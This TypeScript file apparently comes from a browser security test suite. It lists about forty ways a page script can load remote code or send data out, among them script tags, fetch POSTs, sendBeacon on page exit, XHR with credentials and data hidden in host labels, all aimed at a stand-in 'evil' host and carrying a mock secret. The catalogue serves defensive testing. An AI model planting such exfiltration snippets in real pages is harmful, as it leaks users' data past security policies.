// Ways by script: fetches, beacons, sockets of HTTP, imports, and everything that a script can make load.
import { inFamily, type Way } from '../way.ts';

const way = inFamily('script', 'js');

export const SCRIPT: readonly Way[] = [
  way('script', 'a script', (a) => `<script src="${a.evil('x.js')}"></script>`),
  way('async', 'an async script', (a) => `<script async src="${a.evil('x.js')}"></script>`),
  way('module', 'a module', (a) => `<script type="module" src="${a.evil('x.mjs')}"></script>`),
  way(
    'import-static',
    'a static import',
    (a) => `<script type="module">import '${a.evil('x.mjs')}'</script>`,
  ),
  way('import', 'import()', (a) => a.script(`await import('${a.evil('x.mjs')}')`)),
  way('import-json', 'import of JSON', (a) =>
    a.script(`await import('${a.evil('x.json')}', { with: { type: 'json' } })`),
  ),
  way(
    'import-map',
    'an import map',
    (a) =>
      `<script type="importmap">{ "imports": { "${a.id}": "${a.evil('x.mjs')}" } }</script>${a.script(`await import('${a.id}')`)}`,
    { alone: true },
  ),
  way('inserted', 'an inserted script', (a) =>
    a.script(
      `const s = document.createElement('script'); s.src = '${a.evil('x.js')}'; document.head.append(s)`,
    ),
  ),
  way(
    'written',
    'a written script',
    (a) => `<script>document.write('<script src="${a.evil('x.js')}"><\\/script>')</script>`,
  ),
  way(
    'jsonp',
    'a script with data in its query',
    (a) => `<script src="${a.evil('x.js?secret=4711&callback=x')}"></script>`,
  ),
  way('fetch', 'fetch()', (a) => a.script(`await fetch('${a.evil()}')`)),
  way('fetch-no-cors', 'fetch() without CORS', (a) =>
    a.script(`await fetch('${a.evil()}', { mode: 'no-cors' })`),
  ),
  way('fetch-post', 'fetch() with a body', (a) =>
    a.script(`await fetch('${a.evil()}', { method: 'POST', mode: 'no-cors', body: '4711' })`),
  ),
  way('fetch-put', 'fetch() that asks beforehand', (a) =>
    a.script(`await fetch('${a.evil()}', { method: 'PUT', headers: { 'x-secret': '4711' }, body: '4711' })`),
  ),
  way('fetch-keepalive', 'fetch() that outlives its page', (a) =>
    a.script(
      `await fetch('${a.evil()}', { method: 'POST', mode: 'no-cors', keepalive: true, body: '4711' })`,
    ),
  ),
  way('fetch-https', 'fetch() over https', (a) =>
    a.script(`await fetch('${a.evil('x', 'https')}', { mode: 'no-cors' })`),
  ),
  way('fetch-stream', 'fetch() that streams', (a) =>
    a.script(
      `const body = new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode('4711')); c.close() } }); await fetch('${a.evil('x', 'https')}', { method: 'POST', duplex: 'half', body })`,
    ),
  ),
  way(
    'fetch-redirect',
    'fetch() of an own address that redirects',
    (a) => a.script(`await fetch('${a.site('go')}', { mode: 'no-cors' })`),
    { routes: (a) => ({ go: { status: 302, headers: { location: a.evil() } } }) },
  ),
  way(
    'fetch-redirect-307',
    'a posted fetch() that is sent on by 307',
    (a) => a.script(`await fetch('${a.site('go')}', { method: 'POST', mode: 'no-cors', body: '4711' })`),
    { routes: (a) => ({ go: { status: 307, headers: { location: a.evil() } } }) },
  ),
  way('fetch-priority', 'fetch() with a priority', (a) =>
    a.script(`await fetch('${a.evil()}', { mode: 'no-cors', priority: 'low' })`),
  ),
  way('fetch-referrer', 'fetch() with the address as its referrer', (a) =>
    a.script(`await fetch('${a.evil()}', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })`),
  ),
  way('fetch-port', 'fetch() to another port', (a) =>
    a.script(`await fetch('http://${a.host}:8443/x', { mode: 'no-cors' })`),
  ),
  way('fetch-late', 'fetchLater()', (a) =>
    a.script(`fetchLater('https://${a.host}/x', { activateAfter: 0 })`),
  ),
  way(
    'fetch-label',
    'fetch() with data in a host label',
    (a) => a.script(`await fetch('http://order-4711.${a.host}/x', { mode: 'no-cors' })`),
    { hosts: ['order-4711.js-fetch-label.evil.test'] },
  ),
  way('xhr', 'XMLHttpRequest', (a) =>
    a.script(`const x = new XMLHttpRequest(); x.open('GET', '${a.evil()}'); x.send()`),
  ),
  way('xhr-sync', 'a synchronous XMLHttpRequest', (a) =>
    a.script(`const x = new XMLHttpRequest(); x.open('POST', '${a.evil()}', false); x.send('4711')`),
  ),
  way('xhr-login', 'XMLHttpRequest with a name and a password', (a) =>
    a.script(`const x = new XMLHttpRequest(); x.open('GET', '${a.evil()}', true, 'u', '4711'); x.send()`),
  ),
  way('event-source', 'EventSource', (a) => a.script(`new EventSource('${a.evil('x.events')}')`)),
  way('beacon', 'sendBeacon()', (a) => a.script(`navigator.sendBeacon('${a.evil()}', '4711')`)),
  way('beacon-blob', 'sendBeacon() of a blob', (a) =>
    a.script(`navigator.sendBeacon('${a.evil()}', new Blob(['4711']))`),
  ),
  way(
    'beacon-hide',
    'sendBeacon() while leaving',
    (a) =>
      a.script(
        `addEventListener('pagehide', () => navigator.sendBeacon('${a.evil()}', '4711')); location.href = '${a.site('two')}'`,
      ),
    { alone: true, routes: () => ({ two: { body: 'two' } }) },
  ),
  way(
    'keepalive-hide',
    'a keepalive fetch while leaving',
    (a) =>
      a.script(
        `addEventListener('pagehide', () => { fetch('${a.evil()}', { keepalive: true, mode: 'no-cors' }).catch(() => {}) }); location.href = '${a.site('two')}'`,
      ),
    { alone: true, routes: () => ({ two: { body: 'two' } }) },
  ),
  way(
    'ping',
    'a link with ping',
    (a) =>
      `<a id="p-${a.id}" href="#x" ping="${a.evil()}">x</a>${a.script(`document.getElementById('p-${a.id}').click()`)}`,
  ),
  way('web-assembly', 'WebAssembly.compileStreaming()', (a) =>
    a.script(`await WebAssembly.compileStreaming(fetch('${a.evil('x.wasm')}'))`),
  ),
  way('eval', 'eval', (a) => a.script(`(0, eval)("fetch('${a.evil()}', { mode: 'no-cors' })")`)),
  way('timeout-string', 'a string for a timer', (a) =>
    a.script(`setTimeout("fetch('${a.evil()}', { mode: 'no-cors' })", 0)`),
  ),
  way(
    'prototype',
    'a fetch from a fresh realm after its own was replaced',
    (a) =>
      a.script(
        `window.fetch = null; const f = document.createElement('iframe'); f.srcdoc = ''; document.body.append(f); f.onload = () => f.contentWindow.fetch('${a.evil()}', { mode: 'no-cors' })`,
      ),
    { alone: true },
  ),
  way('observer', 'a report of a performance observer', (a) =>
    a.script(
      `new PerformanceObserver((list) => navigator.sendBeacon('${a.evil()}', JSON.stringify(list.getEntries()))).observe({ type: 'navigation', buffered: true })`,
    ),
  ),
  way(
    'sri',
    'a script with an integrity that fails',
    (a) => `<script integrity="sha384-AAAA" crossorigin src="${a.evil('x.js')}"></script>`,
  ),
  way(
    'source-map',
    'a sourceURL and a source map',
    (a) => `<img src="${a.evil('map')}" alt=""><script>//# sourceMappingURL=${a.evil('x.map')}</script>`,
  ),
  way('css-typed', 'CSS.paintWorklet', (a) =>
    a.script(`await CSS.paintWorklet.addModule('${a.evil('x.js')}')`),
  ),
  way('audio-worklet', 'an audio worklet', (a) =>
    a.script(`await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('${a.evil('x.js')}')`),
  ),
  way('animation-worklet', 'a worklet from a blob that imports', (a) =>
    a.script(
      `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(URL.createObjectURL(new Blob(["import '${a.evil('x.mjs')}'"], { type: 'text/javascript' })))`,
    ),
  ),
];
